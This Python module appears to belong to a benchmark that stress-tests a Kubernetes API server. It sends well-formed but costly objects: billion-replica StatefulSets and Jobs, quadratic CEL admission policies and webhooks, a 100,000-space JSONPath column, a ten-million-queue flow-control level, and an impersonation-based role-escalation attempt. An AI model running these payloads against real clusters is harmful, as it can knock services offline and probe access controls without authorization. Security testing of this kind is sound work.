"""More kinds of attack: objects that are small and well-formed, and mean a lot of work to whoever acts on them afterwards.

Controllers, admission, tables, rights: each of these was answered at once, and then nobody else was.
"""

from __future__ import annotations

import asyncio
from typing import Any

from benchmarks.attacks.attacker import Attacker
from benchmarks.attacks.bodies import (
    ADMISSION,
    CREATES,
    DEFINITIONS,
    JSON_PATCH,
    MAPS,
    MERGE,
    OPEN,
    RBAC,
    SPACE,
    TABLE,
    admission,
    config_map,
    definition,
    policy,
    rights,
)
from benchmarks.attacks.table import attack

BILLIONS = 2**31 - 1
SETS = "/apis/apps/v1/namespaces/default/statefulsets"
JOBS = "/apis/batch/v1/namespaces/default/jobs"
POD = {"containers": [{"name": "c", "image": "registry.invalid/x:1"}]}


async def stateful(who: Attacker, **more: Any) -> list[int]:
    labels = {"app": "vast"}
    template = {"metadata": {"labels": labels}, "spec": POD}
    spec = {"replicas": BILLIONS, "serviceName": "x", "selector": {"matchLabels": labels}, "template": template, **more}
    body = {"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": "vast"}, "spec": spec}
    statuses = [await who.ask("POST", SETS, body)]
    await asyncio.sleep(2)
    statuses.append(await who.ask("DELETE", f"{SETS}/vast?propagationPolicy=Background"))
    await asyncio.sleep(2)
    return statuses


@attack("statefulset: two billion pods, in order")
async def ordered_pods(who: Attacker) -> list[int]:
    return await stateful(who)


@attack("job: two billion indexes that are done")
async def indexes(who: Attacker) -> list[int]:
    spec = {
        "completionMode": "Indexed",
        "parallelism": 1,
        "completions": BILLIONS,
        "successPolicy": {"rules": [{"succeededIndexes": f"0-{BILLIONS - 1}"}]},
        "template": {"spec": {**POD, "restartPolicy": "Never"}},
    }
    job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "vast"}, "spec": spec}
    done = {"status": {"completedIndexes": f"0-{BILLIONS - 3}"}}
    statuses = [await who.ask("POST", JOBS, job), await who.ask("PATCH", f"{JOBS}/vast/status", done, **MERGE)]
    await asyncio.sleep(2)
    statuses.append(await who.ask("DELETE", f"{JOBS}/vast?propagationPolicy=Background"))
    return statuses


@attack("role: a billion rights that its author lacks")
async def escalation(who: Attacker) -> list[int]:
    mine = [{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["roles"], "verbs": ["create"]}]
    subject = {"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "bob"}
    role_ref = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "attack"}
    statuses = [
        await who.ask("POST", f"{RBAC}/clusterroles", rights("ClusterRole", "attack", rules=mine)),
        await who.ask(
            "POST",
            f"{RBAC}/clusterrolebindings",
            rights("ClusterRoleBinding", "attack", roleRef=role_ref, subjects=[subject]),
        ),
    ]
    await asyncio.sleep(0.3)
    vast = {key: [f"{key}{number}" for number in range(1_000)] for key in ("apiGroups", "resources", "verbs")}
    role = rights("Role", "vast", rules=[vast])
    statuses.append(await who.ask("POST", f"{RBAC}/namespaces/default/roles", role, Impersonate_User="bob"))
    await who.ask("DELETE", f"{RBAC}/clusterrolebindings/attack")
    await who.ask("DELETE", f"{RBAC}/clusterroles/attack")
    return statuses


@attack("policies: 100 that look at one object")
async def policies(who: Attacker) -> set[int]:
    statuses = set()
    kinds = f"{ADMISSION}/validatingadmissionpolic"
    expression = "object.data.all(a, object.data.all(b, a + b != ''))"
    for number in range(100):
        spec = {"policyName": f"p{number}", "validationActions": ["Deny"]}
        made = admission("ValidatingAdmissionPolicy", f"p{number}", spec=policy(expression)["spec"])
        bound = admission("ValidatingAdmissionPolicyBinding", f"p{number}", spec=spec)
        statuses |= {await who.ask("POST", f"{kinds}ies", made), await who.ask("POST", f"{kinds}ybindings", bound)}
    await asyncio.sleep(1)
    statuses |= await who.many(3, "POST", f"{MAPS}?dryRun=All", config_map(data={f"k{i}": "x" for i in range(100)}))
    for path in (f"{kinds}ybindings", f"{kinds}ies"):
        await who.ask("DELETE", f"{path}?labelSelector=of%3Dattack")
    await asyncio.sleep(0.5)
    return statuses


@attack("policy: 1,000 objects as its parameters")
async def parameters(who: Attacker) -> set[int]:
    statuses = set()
    for _ in range(20):
        statuses |= await who.many(50, "POST", MAPS, config_map(metadata={"labels": {"of": "attack"}}))
    kinds = f"{ADMISSION}/validatingadmissionpolic"
    spec = policy("object.data.all(x, x != params.metadata.name)")["spec"]
    spec["paramKind"] = {"apiVersion": "v1", "kind": "ConfigMap"}
    spec["matchConstraints"] = {"resourceRules": [{**CREATES, "resources": ["secrets"]}]}
    reference = {"selector": {"matchLabels": {"of": "attack"}}, "parameterNotFoundAction": "Deny"}
    bound = {"policyName": "attack", "validationActions": ["Deny"], "paramRef": reference}
    await who.ask("POST", f"{kinds}ies", admission("ValidatingAdmissionPolicy", "attack", spec=spec))
    await who.ask("POST", f"{kinds}ybindings", admission("ValidatingAdmissionPolicyBinding", "attack", spec=bound))
    await asyncio.sleep(1)
    secret = {**config_map(data={f"k{i}": "" for i in range(100)}), "kind": "Secret"}
    statuses |= await who.many(3, "POST", f"{SPACE}/secrets?dryRun=All", secret)
    await who.ask("DELETE", f"{kinds}ybindings/attack")
    await who.ask("DELETE", f"{kinds}ies/attack")
    await who.ask("DELETE", f"{MAPS}?labelSelector=of%3Dattack")
    return statuses


@attack("webhooks: 100 with conditions")
async def conditions(who: Attacker) -> set[int]:
    expression = "object.data.all(a, object.data.all(b, a + b == ''))"
    hook = {
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
        "failurePolicy": "Ignore",
        "clientConfig": {"url": "https://127.0.0.1:1/"},
        "matchConditions": [{"name": "x", "expression": expression}],
        "rules": [CREATES],
    }
    hooks = [{**hook, "name": f"h{number}.attack.example"} for number in range(100)]
    path = f"{ADMISSION}/validatingwebhookconfigurations"
    statuses = {await who.ask("POST", path, admission("ValidatingWebhookConfiguration", "attack", webhooks=hooks))}
    await asyncio.sleep(0.5)
    statuses |= await who.many(3, "POST", f"{MAPS}?dryRun=All", config_map(data={f"k{i}": "x" for i in range(3_000)}))
    statuses.add(await who.ask("DELETE", f"{path}/attack"))
    return statuses


@attack("columns: a path of 100,000 spaces")
async def columns(who: Attacker) -> list[Any]:
    made = definition("columns", OPEN)
    path = "/apis/attack.example/v1/namespaces/default/columns"
    statuses: list[Any] = [await who.ask("POST", DEFINITIONS, made)]
    for _ in range(40):
        if await who.ask("GET", path) == 200:
            break
        await asyncio.sleep(0.05)
    column = {"name": "c", "type": "string", "jsonPath": ".a[?(@" + " " * 100_000}
    add = [{"op": "add", "path": "/spec/versions/0/additionalPrinterColumns", "value": [column]}]
    statuses.append(await who.ask("PATCH", f"{DEFINITIONS}/columns.attack.example", add, **JSON_PATCH))
    await asyncio.sleep(0.5)
    statuses.append(await who.many(3, "GET", path, **TABLE))
    statuses.append(await who.ask("DELETE", f"{DEFINITIONS}/columns.attack.example"))
    return statuses


@attack("flow control: a level with ten million queues")
async def queues(who: Attacker) -> list[Any]:
    group = "flowcontrol.apiserver.k8s.io"
    here = f"/apis/{group}/v1"
    queuing = {"queues": 10_000_000, "handSize": 2, "queueLengthLimit": 50}
    limited = {"nominalConcurrencyShares": 5, "limitResponse": {"type": "Queue", "queuing": queuing}}
    head = {"apiVersion": f"{group}/v1", "metadata": {"name": "attack"}}
    level = {**head, "kind": "PriorityLevelConfiguration", "spec": {"type": "Limited", "limited": limited}}
    everything = {"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"], "namespaces": ["*"]}
    rule = {"subjects": [{"kind": "User", "user": {"name": "bob"}}], "resourceRules": [everything]}
    spec = {"matchingPrecedence": 2, "priorityLevelConfiguration": {"name": "attack"}, "rules": [rule]}
    statuses: list[Any] = [await who.ask("POST", f"{here}/prioritylevelconfigurations", level)]
    statuses.append(await who.ask("POST", f"{here}/flowschemas", {**head, "kind": "FlowSchema", "spec": spec}))
    await asyncio.sleep(0.5)
    statuses.append(await who.many(40, "GET", MAPS, Impersonate_User="bob"))
    statuses.append(await who.ask("DELETE", f"{here}/flowschemas/attack"))
    statuses.append(await who.ask("DELETE", f"{here}/prioritylevelconfigurations/attack"))
    return statuses
